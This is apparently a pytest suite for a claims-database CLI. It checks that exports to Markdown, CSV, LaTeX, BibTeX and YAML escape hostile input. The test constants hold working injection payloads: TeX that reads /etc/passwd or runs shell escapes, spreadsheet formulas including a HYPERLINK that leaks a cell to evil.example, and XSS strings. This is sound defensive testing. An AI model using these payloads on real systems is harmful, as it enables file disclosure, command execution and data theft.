"""Hostile input, safe output: data written to be code in LaTeX, BibTeX, spreadsheets, HTML and YAML,
imported and exported through the CLI. Every LaTeX case is compiled (pdflatex, bibtex) when TeX is installed.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from markdown_it import MarkdownIt

from tests.conftest import reread, run_sql
from tests.latex import assert_contained, build, needs_tex

pytestmark = [
    pytest.mark.slow,
    pytest.mark.engine_free,
]  # each attack in every format, compiled with TeX

# TeX that would read a file, write one, run a shell, or end the table or the document, if not escaped.
TEX_ATTACK = (
    "\\input{/etc/passwd}\\immediate\\openout5=pwned.tex\\immediate\\write5{x}\\immediate\\write18{touch pwned}"
    "\\endinput\\end{tabular}\\end{document}"
)
SPREADSHEET_ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
]
HTML_ATTACKS = "<script>alert(1)</script><img src=x onerror=alert(2)>[click](javascript:alert(3))![t](http://t.example/p.gif)"

HOSTILE = {
    "sources": [
        {
            "key": "evil-report",
            "kind": "report",
            "date": "2026-05",
            "cite_key": "evil2026",
            "title": f"Data & Models {TEX_ATTACK} 100% #1 $x$ a_b ^^5c ~ {{unbalanced \\",
            "publisher": "AT&T Labs }{ \\textbackslash{}",
            "url": 'https://example.org/a"}{\\input{/etc/passwd}}&x=%25#sec_1~2',
        },
        {
            "key": "plain-blog",
            "kind": "blog",
            "title": "Plain & simple",
            "url": "https://example.org/blog",
        },
    ],
    "claims": [
        {
            "key": "evil.pretrain",
            "subject": f"[lead] Data & Models {HTML_ATTACKS}",
            "stage": "Pretrain",
            "statement": f"{TEX_ATTACK} 50% & more\n\n[x] {HTML_ATTACKS} $\\pi$ #1 ~ ^ _ | @misc{{evil, title={{x}}}}",
            "tag": "spot-checked",
            "basis": "hostile test",
            "figures": [
                "3,072 H100",
                {"raw": "\\input{/etc/passwd}", "kind": "text", "name": "injected"},
            ],
            "evidence": [{"source": "evil-report", "quote": "3,072 H100"}],
            "reread": reread("evil-report", quote="3,072 H100"),
        },
        *[
            {
                "key": f"evil.cell{i}",
                "subject": attack,
                "stage": attack.strip(),
                "statement": attack,
                "tag": "spot-checked",
                "basis": "hostile test",
                "figures": [],
                "evidence": [{"source": "plain-blog"}],
                "reread": reread("plain-blog"),
            }
            for i, attack in enumerate(SPREADSHEET_ATTACKS)
        ],
        {
            "key": "evil.unsafe",
            "subject": "Gadget",
            "stage": "Serve",
            "statement": f"Unchecked {TEX_ATTACK}",
            "tag": "agent-reported",
            "basis": "hostile test",
            "figures": [
                {"raw": "~40K sandboxes", "name": "sandbox count"},
                {"raw": "{\\relax}$x^2$", "kind": "text"},
            ],
            "evidence": [{"source": "plain-blog"}],
        },
    ],
}
SAFE = ["--search", "", "--tag", "spot-checked"]


@pytest.fixture
def hostile(claims, write_json):
    result = claims("import", write_json(HOSTILE, "hostile.json"))
    assert result.exit_code == 0, result.output
    return claims


def exported(claims, *args):
    result = claims("export", *args)
    assert result.exit_code == 0, result.output
    return result.stdout


# --- Markdown and HTML ------------------------------------------------------------------------------------


@pytest.mark.parametrize("layout", [[], ["--grid"]])
def test_markdown_shows_html_and_links_as_text(hostile, layout):
    text = exported(hostile, "--tag", "spot-checked", *layout)
    assert "<script" not in text and "<img" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    html = MarkdownIt("commonmark").enable("table").render(text)
    assert (
        "<script" not in html
        and "<img" not in html
        and "onerror=" not in html.replace("onerror=alert", "")
    )
    assert not re.search(r"href=\"(?!https://)", html), html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown, as text
    for table in html.split("<table>")[1:]:  # a grid export has a table per grid
        rows = table.split("</table>")[0].split("<tr>")[1:]
        assert (
            len({row.count("<td") + row.count("<th") for row in rows}) == 1
        )  # no cell split or joined


# --- CSV --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("layout", [[], ["--grid"]])
def test_csv_cells_never_start_a_formula(hostile, layout):
    text = exported(hostile, "--format", "csv", "--tag", "spot-checked", *layout)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.lstrip(" \n").startswith(("=", "+", "-", "@", "\t", "\r"))]
    for attack in SPREADSHEET_ATTACKS:
        assert "'" + attack.strip() in cells  # kept, shown as text (import strips the leading tab)
    assert len({len(row) for row in rows}) == 1


# --- LaTeX and BibTeX -------------------------------------------------------------------------------------


@needs_tex
@pytest.mark.parametrize("layout", [[], ["--grid"]])
@pytest.mark.parametrize("mode", [["--tag", "spot-checked"], ["--draft"]])
def test_latex_tables_compile_and_print_the_attack_as_text(hostile, tmp_path, layout, mode):
    (tmp_path / "table.tex").write_text(
        exported(hostile, "--format", "latex", *layout, *mode), encoding="utf-8"
    )
    result = build(tmp_path, "\\input{table.tex}")
    assert_contained(result, {"table.tex"})
    printed = result.flat.replace("/ ", "/")  # a narrow cell may end a line after a slash
    assert "/etc/passwd" in printed and "Data & Models" in printed  # printed, not run
    assert not (tmp_path / "pwned.tex").exists() and not (tmp_path / "pwned").exists()


@needs_tex
def test_bibtex_entries_compile_and_cite(hostile, tmp_path):
    bib = exported(hostile, "--format", "bibtex", "--tag", "spot-checked")
    (tmp_path / "claims.bib").write_text(bib, encoding="utf-8")
    (tmp_path / "table.tex").write_text(
        exported(hostile, "--format", "latex", "--tag", "spot-checked"), encoding="utf-8"
    )
    assert bib.count("\n@") == 3 and bib.count("\n@preamble{") == 1  # one entry per cited source
    searched = exported(hostile, "--format", "bibtex", "--search", "@misc{evil, title={x}}")
    assert (
        searched.count("@") == 2 and "(at)misc{evil" in searched
    )  # a filter in the manifest starts no entry (the one other "@" is the url preamble)
    result = build(tmp_path, "\\input{table.tex}", bibliography=True)
    assert_contained(result, {"table.tex", "claims.bib"})
    assert "Warning--I didn't find a database entry" not in result.log
    assert (
        "AT&T Labs" in result.flat
        and "Data & Models" in result.flat
        and "example.org" in result.flat
    )


MACROS_PAPER = "\\input{{claims.tex}}\n{draft}\n"


@needs_tex
@pytest.mark.parametrize(
    "use, draft, compiles, message",
    [
        (
            "\\claim{evil.pretrain} and \\claim[injected]{evil.pretrain} and \\claim[2]{evil.pretrain}",
            "",
            True,
            None,
        ),
        ("\\claim[sandbox count]{evil.unsafe}", "", False, "claim evil.unsafe is not paper-safe"),
        ("\\claim[2]{evil.unsafe}", "", False, "claim evil.unsafe is not paper-safe"),
        (
            "\\claim[sandbox count]{evil.unsafe} and \\claim[2]{evil.unsafe}",
            "\\claimsdraft",
            True,
            None,
        ),
    ],
)
def test_macros_compile_keep_the_guard_and_print_the_attack_as_text(
    hostile, tmp_path, use, draft, compiles, message
):
    (tmp_path / "claims.tex").write_text(exported(hostile, "--format", "macros"), encoding="utf-8")
    preamble = "\\documentclass{article}\n" + MACROS_PAPER.format(draft=draft)
    result = build(tmp_path, use, preamble=preamble)
    if compiles:
        assert_contained(result, {"claims.tex"})
        assert "etc/passwd" in result.text or "unverified" in result.text
    else:
        assert not result.ok and message in result.log
    assert "/etc/passwd" not in result.opened


# --- identifiers that cannot be escaped, written into the database past the importer ----------------------


def defined_as_written(store: str, key: str) -> None:
    """The source's row as it now stands, defined at the end of the definitions' chain with the store's
    own code (what a PostgreSQL writer, who may insert, can do): the definitions then agree with the
    row, and only the exporters' own check of what they print stands between it and the paper."""
    from sqlalchemy import select

    from claimsdb import db, definitions
    from claimsdb.models import Source

    engine = db.make_engine(db.resolve_url(store))
    try:
        with db.session_scope(engine) as session:
            row = session.execute(select(Source).where(Source.key == key)).scalar_one()
            definitions.define_sources(session, [row.model_dump()], "a writer")
    finally:
        engine.dispose()


@pytest.mark.parametrize(
    "sql, params, fmt, message",
    [
        (
            "UPDATE source SET cite_key = ? WHERE key = 'evil-report'",
            ("x}\\input{/etc/passwd}\\cite{y",),
            "latex",
            "the citation key of source 'evil-report'",
        ),
        (
            "UPDATE source SET cite_key = ? WHERE key = 'evil-report'",
            ("evil,\n  note = {injected}",),
            "bibtex",
            "the citation key of source 'evil-report'",
        ),
        # Figures are in each claim's recorded history, which notices the change first; the exporters'
        # own check of figure names is tested on export rows in tests/test_export.py.
        (
            "UPDATE figure SET name = ? WHERE name = 'injected'",
            ("}{x}\\def\\claims@unsafe#1#2{#2}\\@namedef{y",),
            "macros",
            "claim evil.pretrain disagrees with its history",
        ),
    ],
)
def test_an_unsafe_stored_identifier_stops_the_export_and_writes_nothing(
    hostile, store, tmp_path, sql, params, fmt, message
):
    run_sql(store, (sql, params))
    if "UPDATE source" in sql:
        defined_as_written(store, "evil-report")
    out = tmp_path / "out.txt"
    result = hostile(
        "export", "--format", fmt, "--draft" if fmt != "macros" else "--strict", "-o", out
    )
    assert result.exit_code == 2, result.output
    assert message in result.stderr and "Traceback" not in result.output
    assert not out.exists()


def test_a_quarto_variable_that_would_be_both_a_figure_and_a_claim_is_refused(hostile, write_json):
    doc = {"claims": [{**HOSTILE["claims"][0], "key": "evil.pretrain.injected"}]}
    assert hostile("import", write_json(doc, "more.json")).exit_code == 0
    result = hostile("export", "--format", "quarto")
    assert (
        result.exit_code == 2
        and "evil.pretrain.injected would be both a figure and a claim" in result.stderr
    )


# --- YAML and JSON ----------------------------------------------------------------------------------------


def test_quarto_variables_are_one_quoted_scalar_per_line(hostile):
    text = exported(hostile, "--format", "quarto", "--draft")
    for line in text.splitlines():
        if line.startswith("#"):
            continue
        key, sep, value = line.strip().partition(": ")
        assert json.loads(key.rstrip(":")) and (not sep or json.loads(value) is not None), line
    assert '"injected": "\\\\input{/etc/passwd}"' in text


def test_json_export_round_trips_every_hostile_value(hostile):
    doc = json.loads(exported(hostile, "--format", "json", "--draft"))
    statements = {r["key"]: r["statement"] for r in doc["rows"]}
    assert statements["evil.pretrain"] == HOSTILE["claims"][0]["statement"]
